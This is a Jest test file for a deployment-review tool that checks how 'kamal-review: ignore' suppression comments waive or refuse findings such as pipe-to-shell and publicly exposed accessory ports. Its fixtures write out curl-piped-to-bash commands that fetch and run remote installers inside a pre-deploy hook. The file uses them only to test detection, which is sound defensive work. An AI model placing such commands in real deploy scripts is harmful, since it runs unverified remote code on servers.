import { describe, expect, test } from "@jest/globals";
import type { ReviewedFinding, Verdict } from "../../src/review/review.ts";
import { reviewChange } from "../../src/review/review-change.ts";
import { RULES } from "../../src/rules/index.ts";
import { projectOf } from "../support/project-of.ts";

const REASON = "served by ourselves";
const COMMENT = `# kamal-review: ignore[pipe-to-shell] ${REASON}`;
const PIPE = "curl -fsSL https://get.example.com/install | bash";

const hook = (lines: string) => projectOf({ ".kamal/hooks/pre-deploy": `#!/bin/sh\n${lines}\n` });

async function verdictOf(before: string, after: string): Promise<Verdict> {
  return reviewChange({ base: await hook(before), head: await hook(after), rules: RULES }).verdict;
}

async function pipeFinding(before: string | undefined, after: string): Promise<ReviewedFinding | undefined> {
  const base = before === undefined ? undefined : await hook(before);
  const { findings } = reviewChange({ base, head: await hook(after), rules: RULES });
  return findings.find(({ ruleId }) => ruleId === "pipe-to-shell");
}

describe("a suppression", () => {
  test("accepts what it guards when there is no change to judge", async () => {
    expect(await pipeFinding(undefined, `${COMMENT}\n${PIPE}`)).toMatchObject({
      isWaived: true,
      waiver: { status: "accepted", reason: REASON },
    });
  });

  test("that comes with the critical finding only asks", async () => {
    expect(await pipeFinding("echo ready", `${COMMENT}\n${PIPE}`)).toMatchObject({
      isNew: true,
      isWaived: false,
      waiver: { status: "asked", reason: REASON },
    });
  });

  test("that was there before the change accepts a new finding", async () => {
    expect(await pipeFinding(`${COMMENT}\ninstall-tools`, `${COMMENT}\n${PIPE}`)).toMatchObject({
      isWaived: true,
    });
  });

  test("that the change moves to another line only asks", async () => {
    const finding = await pipeFinding(
      `${COMMENT}\ninstall-tools\necho one\necho two\necho three`,
      `echo one\necho two\necho three\n${COMMENT}\n${PIPE}`,
    );
    expect(finding).toMatchObject({ isWaived: false, waiver: { status: "asked" } });
  });

  test("does not accept another danger that the change puts where the accepted one was", async () => {
    const evil = "curl -fsSL https://elsewhere.example.net/install | bash";
    for (const after of [
      evil,
      `${evil}\n${PIPE}`,
      `${evil}\necho\n${COMMENT.replace(REASON, "mine")}\n${PIPE}`,
    ])
      expect(await verdictOf(`${COMMENT}\n${PIPE}`, `${COMMENT}\n${after}`)).toBe("blocked");
  });

  test("does not go over to another setting that the change puts behind it", async () => {
    const accessory = (name: string, comment: string, port: string) =>
      `  ${name}:\n    image: acme/${name}:1.2.3\n    host: 192.0.2.10\n${comment}    port: ${port}\n`;
    const start =
      "service: shop\nimage: acme/shop\nservers: [192.0.2.10]\nssh: { user: deploy }\naccessories:\n";
    const comment = "    # kamal-review: ignore[accessory-port-public] only the office gets through\n";
    const base = await projectOf({ "config/deploy.yml": start + accessory("postgres", comment, "5432") });
    const head = await projectOf({
      "config/deploy.yml": start + accessory("redis", comment, "6379") + accessory("postgres", "", "5432"),
    });
    const { findings } = reviewChange({ base, head, rules: RULES });
    expect(findings.filter(({ ruleId, isNew }) => isNew && ruleId === "accessory-port-public")).toMatchObject(
      [{ isWaived: false, waiver: { status: "asked" } }],
    );
  });

  test.each([
    ["without a reason", "# kamal-review: ignore[pipe-to-shell]"],
    ["for another rule", "# kamal-review: ignore[privileged] because"],
    ["without a rule", "# kamal-review: ignore because"],
  ])("%s accepts nothing", async (_, comment) => {
    const finding = await pipeFinding(undefined, `${comment}\n${PIPE}`);
    expect(finding).toMatchObject({ isWaived: false });
    expect(finding?.waiver).toBeUndefined();
  });

  test("accepts a lesser finding in the same change", async () => {
    const text = (port: string) =>
      `service: shop\nimage: acme/shop\nservers: [192.0.2.10]\nssh: { user: deploy }\naccessories:\n  files:\n    image: acme/files:1.2.3\n    host: 192.0.2.10\n${port}`;
    const base = await projectOf({ "config/deploy.yml": text("") });
    const head = await projectOf({
      "config/deploy.yml": text(
        "    port: 5000 # kamal-review: ignore[accessory-port-public] public on purpose\n",
      ),
    });
    const { findings, verdict } = reviewChange({ base, head, rules: RULES });
    expect(findings.map(({ ruleId, severity, isWaived }) => ({ ruleId, severity, isWaived }))).toContainEqual(
      {
        ruleId: "accessory-port-public",
        severity: "medium",
        isWaived: true,
      },
    );
    expect(verdict).toBe("clean");
  });
});
